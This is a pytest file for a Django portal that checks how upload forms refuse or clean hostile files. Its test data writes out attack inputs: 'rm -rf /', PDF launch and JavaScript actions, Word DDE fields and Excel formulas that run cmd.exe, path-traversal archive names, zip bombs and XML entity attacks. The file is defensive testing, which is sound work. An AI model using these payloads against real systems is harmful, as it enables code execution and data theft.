"""Files made to deceive, to hide or to break, handed in through the real forms: each is refused with the sentence that says
what to do, or taken without what was in it; what else was typed is still there, and nothing is left in the store."""

import io
import zipfile

import pikepdf
import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from apmbc_portal.testing import factories as make
from apmbc_portal.testing import files, hostile
from apmbc_portal.uploads.refusals import SENTENCES
from engagements.models import Correspondence
from meetings.models import Paper

pytestmark = pytest.mark.django_db

# what it is: (its name, the bytes, why a paper is refused); "" where a cleaned copy is taken.
PAPERS = {
    # what a name says is not what it is
    "a program called .pdf": ("plan.pdf", lambda: hostile.PROGRAM, "program"),
    "a shell script called .docx": ("plan.docx", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "SVG called .pdf": ("plan.pdf", lambda: hostile.SVG, "drawing"),
    "SVG called .png": ("plan.png", lambda: b'<?xml version="1.0"?>' + hostile.SVG, "drawing"),
    "HTML called .pdf": ("plan.pdf", lambda: hostile.HTML, "web_page"),
    "HTML in UTF-16 called .pdf": ("plan.pdf", lambda: hostile.HTML.decode().encode("utf-16"), "web_page"),
    "CSV in broken UTF-8 called .xlsx": ("list.xlsx", lambda: b"name;mail\n\xff\xfe\xc3\x28;=1+1\n", "plain_text"),
    "RTF called .docx": ("plan.docx", lambda: b"{\\rtf1\\object\\objdata 0105}", "rich_text"),
    "a ZIP called .docx": ("plan.docx", lambda: files.packed({"a.exe": hostile.PROGRAM}), "archive"),
    "a RAR called .pdf": ("plan.pdf", lambda: b"Rar!\x1a\x07\x00" + b"\0" * 50, "archive"),
    "a shortcut called .pdf": ("plan.pdf", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, "program"),
    "a film called .png": ("plan.png", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 60, "sound_or_film"),
    "HEIC called .jpg": ("photo.jpg", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 60, "other_picture"),
    "OneNote called .pdf": ("plan.pdf", lambda: b"\xe4R\\{\x8c\xd8\xa7M\xae\xb1Sx\xd0)\x96\xd3" + b"\0" * 60, "note_book"),
    "an old Word file called .docx": ("plan.docx", lambda: hostile.compound("WordDocument", "Macros"), "old_office"),
    "a locked Word file (OLE)": ("plan.docx", lambda: hostile.compound("EncryptedPackage", "EncryptionInfo"), "password"),
    "an Outlook mail": ("note.pdf", lambda: hostile.compound("__properties_version1.0"), "mail"),
    "nothing at all": ("plan.pdf", lambda: b"", "empty"),
    "random bytes": ("plan.pdf", lambda: bytes(range(256)) * 20, "unknown"),
    "the test virus as text": ("plan.pdf", lambda: hostile.EICAR, "plain_text"),
    # two kinds in one
    "a web page before a PDF": ("plan.pdf", lambda: hostile.HTML + files.pdf(), "two_kinds"),
    "a ZIP that begins with a PDF": ("plan.pdf", lambda: b"%PDF-1.7\n" + files.packed({"a": "b"}), "damaged"),
    "a Word file behind a program": ("plan.docx", lambda: hostile.PROGRAM + files.office(), "program"),
    "a PDF with an archive behind it": ("plan.pdf", lambda: files.pdf(tail=files.packed({"a.exe": "MZ"})), ""),
    "a PNG with a program behind it": ("plan.png", lambda: files.picture() + hostile.PROGRAM, ""),
    "a JPEG with a web page in its comment": ("plan.jpg", lambda: files.photograph("<script>alert(1)</script>"), ""),
    "a Word file with a program behind it": ("plan.docx", lambda: files.office() + hostile.PROGRAM, "two_kinds"),
    # PDF
    "PDF: JavaScript when opened": ("plan.pdf", lambda: hostile.action("/S /JavaScript /JS (app.alert\\(1\\))"), "script"),
    "PDF: JavaScript by name": ("plan.pdf", lambda: files.pdf(catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (a) >>] >> >>"), "script"),
    "PDF: starts a program": ("plan.pdf", lambda: hostile.action("/S /Launch /F (cmd.exe)"), "launch"),
    "PDF: sends a form": ("plan.pdf", lambda: hostile.clicked("/S /SubmitForm /F (http://demo.example/)"), "launch"),
    "PDF: opens another file": ("plan.pdf", lambda: hostile.clicked("/S /GoToR /F (\\\\\\\\server\\\\share)"), "launch"),
    "PDF: a link to a file": ("plan.pdf", lambda: hostile.clicked("/S /URI /URI (file:///etc/passwd)"), "local_link"),
    "PDF: a link that is a script": ("plan.pdf", lambda: hostile.clicked("/S /URI /URI (javascript:alert\\(1\\))"), "local_link"),
    "PDF: a file inside": ("plan.pdf", hostile.with_file_inside, "embedded"),
    "PDF: a form of Adobe's own": ("plan.pdf", lambda: files.pdf(catalog="/AcroForm << /XFA (a) >>"), "form"),
    "PDF: film": ("plan.pdf", lambda: files.pdf(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 1 1] >>]"), "sound_or_film"),
    "PDF: words kept elsewhere": ("plan.pdf", lambda: files.pdf(page="/X 6 0 R", objects=[files.stream("/F (http://demo.example/a)", b"")]), "external"),
    "PDF: locked": ("plan.pdf", hostile.locked_pdf, "password"),
    "PDF: no printing, no copying": ("plan.pdf", lambda: hostile.locked_pdf(owner_only=True), "password"),
    "PDF: cut off": ("plan.pdf", lambda: files.pdf()[:200], "damaged"),
    "PDF: brackets in brackets": ("plan.pdf", hostile.nested_arrays, "damaged"),
    "PDF: a stream of 400 MB": ("plan.pdf", hostile.packed_stream, ""),
    # Word, Excel, PowerPoint
    "Word: macros": ("plan.docx", lambda: files.office(parts={"word/vbaProject.bin": b"x"}), "macros"),
    "Word: DOCM called .docx": ("plan.docx", lambda: files.office(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "Word: a template from elsewhere": ("plan.docx", lambda: files.office(links=[("attachedTemplate", "https://demo.example/a.dotm", True)]), "remote_template"),
    "Word: a picture from elsewhere": ("plan.docx", lambda: files.office(links=[("image", "http://demo.example/track.png", True)]), "external"),
    "Word: a picture from the server's disk": ("plan.docx", lambda: files.office(links=[("image", "file:///etc/passwd", True)]), "external"),
    "Word: a link to a share": ("plan.docx", lambda: files.office(links=[("hyperlink", "file://server/share", True)]), "local_link"),
    "Word: a field that starts a program": ("plan.docx", lambda: files.office(body=files.field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), "dde"),
    "Word: a field that fetches": ("plan.docx", lambda: files.office(body=files.field('INCLUDEPICTURE "http://demo.example/a"')), "external"),
    "Word: a program as an object": ("plan.docx", lambda: files.office(parts={"word/embeddings/oleObject1.bin": b"x"}), "object"),
    "Word: an ActiveX control": ("plan.docx", lambda: files.office(parts={"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    "Word: an unknown part": ("plan.docx", lambda: files.office(parts={"word/secret.dat": b"names"}), "unknown_part"),
    "Word: locked parts": ("plan.docx", hostile.locked_zip, "password"),
    "Excel: a formula that calls home": ("list.xlsx", lambda: files.office("xlsx", files.row("1", formula='WEBSERVICE("http://demo.example/"&amp;A1)')), "formula"),
    "Excel: a formula that starts a program": ("list.xlsx", lambda: files.office("xlsx", files.row("1", formula="cmd|'/c calc'!A1")), "dde"),
    "Excel: linked with another book": ("list.xlsx", lambda: files.office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<a/>"}), "external_book"),
    "Excel: a data source": ("list.xlsx", lambda: files.office("xlsx", parts={"xl/connections.xml": "<a/>"}), "connection"),
    "PowerPoint: film": ("talk.pptx", lambda: files.office("pptx", parts={"ppt/media/a.mp4": b"x"}), "sound_or_film"),
    "OpenDocument: a macro": ("plan.odt", lambda: files.open_document(parts={"Basic/Standard/a.xml": "<a/>"}), "macros"),
    "OpenDocument: text from elsewhere": ("plan.odt", lambda: files.open_document(body='<text:section-source xlink:href="http://demo.example/"/>'), "external"),
    "OpenDocument: locked": ("plan.odt", lambda: files.open_document(manifest="<manifest:encryption-data/>"), "password"),
    # archives and XML that break who reads them
    "a bomb of zeros": ("plan.docx", hostile.bomb, "bomb"),
    "parts that lie over each other": ("plan.docx", hostile.overlapping, "bomb"),
    "five thousand parts": ("plan.docx", hostile.many_parts, "too_many_parts"),
    "a part called ../../etc/passwd": ("plan.docx", lambda: hostile.leading_elsewhere("../../etc/passwd"), "bad_names"),
    "a part called C:\\windows": ("plan.docx", lambda: hostile.leading_elsewhere("C:\\windows\\a.xml"), "bad_names"),
    "a part called /etc/passwd": ("plan.docx", lambda: hostile.leading_elsewhere("/etc/passwd"), "bad_names"),
    "two parts of one name": ("plan.docx", hostile.twice_the_same, "damaged"),
    "XML: a billion laughs": ("plan.docx", hostile.entities, "entities"),
    "XML: an entity from the server's disk": ("plan.docx", hostile.outside_entity, "entities"),
    "XML: five thousand levels": ("plan.docx", hostile.deep_xml, "damaged"),
    "XML: not XML": ("plan.docx", lambda: hostile.with_document("<w:document"), "damaged"),
    # pictures
    "a picture of billions of points": ("photo.png", hostile.enormous_picture, "too_many_points"),
    "a picture cut off": ("photo.jpg", lambda: files.photograph()[:300], "damaged"),
    "a photograph that says where": ("photo.jpg", files.photograph, ""),
}  # fmt: skip

# Where evidence differs: it is kept as it came, so two kinds in one are refused, and mails are looked into.
EVIDENCE = {
    "a PDF with an archive behind it": ("note.pdf", lambda: files.pdf(tail=files.packed({"a.exe": "MZ"})), "two_kinds"),
    "a PNG with a program behind it": ("note.png", lambda: files.picture() + hostile.PROGRAM, "two_kinds"),
    "a JPEG with a web page in it": ("note.jpg", lambda: files.photograph("<script>alert(1)</script>"), "two_kinds"),
    "a mail with a program": ("note.eml", lambda: files.mail(("invoice.pdf.exe", hostile.PROGRAM)), "mail_program"),
    "a mail with a program called .pdf": ("note.eml", lambda: files.mail(("invoice.pdf", hostile.PROGRAM)), "mail_program"),
    "a mail with a web page": ("note.eml", lambda: files.mail(("invoice.html", hostile.HTML)), "mail_program"),
    "a PDF that starts a program": ("note.pdf", lambda: hostile.action("/S /Launch /F (cmd.exe)"), "launch"),
    "a Word file with macros": ("note.docx", lambda: files.office(parts={"word/vbaProject.bin": b"x"}), "macros"),
}  # fmt: skip


def stored():
    """Everything in the private store."""
    return {f"{folder}/{name}" for folder in default_storage.listdir("")[0] for name in default_storage.listdir(folder)[1]}


def said(code):
    """The sentence of a refusal as far as it is the same for every file."""
    return escape(str(SENTENCES[code]).partition("%(")[0].rstrip(" ("))


def hand_in(client, address, data, name, content):
    return client.post(address, data | {"file": SimpleUploadedFile(name, content)})


@pytest.mark.parametrize("what", PAPERS)
def test_a_paper(client, what):
    name, made, code = PAPERS[what]
    client.force_login(make.make_staff())
    meeting, before = make.make_meeting(), stored()
    typed = {"meeting": meeting.pk, "title": "Work plan of the ministry", "language": "fr"}
    answer = hand_in(client, reverse("admin:meetings_paper_add"), typed, name, made())
    if not code:
        assert answer.status_code == 302
        return assert_harmless(Paper.objects.get())
    page = answer.content.decode()
    assert answer.status_code == 200
    assert said(code) in page
    assert 'value="Work plan of the ministry"' in page
    assert (Paper.objects.count(), stored()) == (0, before)
    return None


@pytest.mark.parametrize("what", EVIDENCE)
def test_evidence(client, what):
    name, made, code = EVIDENCE[what]
    client.force_login(make.make_staff())
    before = stored()
    typed = {
        "state": make.make_state().pk, "kind": "note_verbale", "way": "in", "dated": make.today().isoformat(), "number": "NV/7",
        "subject": "Request for a meeting", "summary": "Words of the note that took long to type.",
    }  # fmt: skip
    answer = hand_in(client, reverse("admin:engagements_correspondence_add"), typed, name, made())
    page = answer.content.decode()
    assert answer.status_code == 200
    assert said(code) in page
    assert [word for word in ("NV/7", "Words of the note that took long to type.") if word not in page] == []
    assert (Correspondence.objects.count(), stored()) == (0, before)


@pytest.mark.parametrize("what", ["a program called .pdf", "PDF: JavaScript when opened", "a bomb of zeros"])
def test_a_states_signed_page_and_annotated_file(client, what):
    """The State's own forms say the same sentence, and the remark typed beside the file is still there."""
    name, made, code = PAPERS[what]
    host = make.make_engagement()
    client.force_login(make.make_focal_point(host.state))
    draft = make.make_request(host, status="draft")
    answer = hand_in(client, reverse("request_signed", args=[draft.pk]), {"dated": "2026-01-02", "number": "NV/7"}, name, made())
    assert (answer.status_code, said(code) in answer.content.decode(), 'value="NV/7"' in answer.content.decode()) == (
        422,
        True,
        True,
    )
    report = make.make_report(make.make_meeting(host, status="held"), status="with_state")
    text = make.make_text(report)
    remark = {f"remark-{text.pk}-0": "Thirteen districts."}
    answer = hand_in(client, reverse("workspace_report_answer", args=[report.pk]), remark, name, made())
    assert (answer.status_code, said(code) in answer.content.decode()) == (422, True)
    assert "Thirteen districts.</textarea>" in answer.content.decode()


def assert_harmless(paper):
    """The copy of a paper holds nothing of what was hidden in or behind the file."""
    with paper.copy.open("rb") as file:
        copy = file.read()
    for hidden in (b"MZ\x90", b"<script>", b"PK\x03\x04", b"Owner Person", b"Exif\x00\x00"):
        assert hidden not in copy
    assert not zipfile.is_zipfile(io.BytesIO(copy))
    if paper.file_kind == "pdf":
        with pikepdf.open(io.BytesIO(copy)) as pdf:
            assert len(pdf.pages) == 1


def test_the_corpus_is_large_and_every_sentence_says_what_to_do():
    assert len(PAPERS) + len(EVIDENCE) >= 60
    used = {code for _name, _made, code in [*PAPERS.values(), *EVIDENCE.values()]} - {""}
    assert [code for code in used if not any(verb in str(SENTENCES[code]) for verb in ADVICE)] == []


ADVICE = ("choose", "Choose", "Save", "save", "hand in", "Hand", "takes none", "Take it out", "Make it smaller")
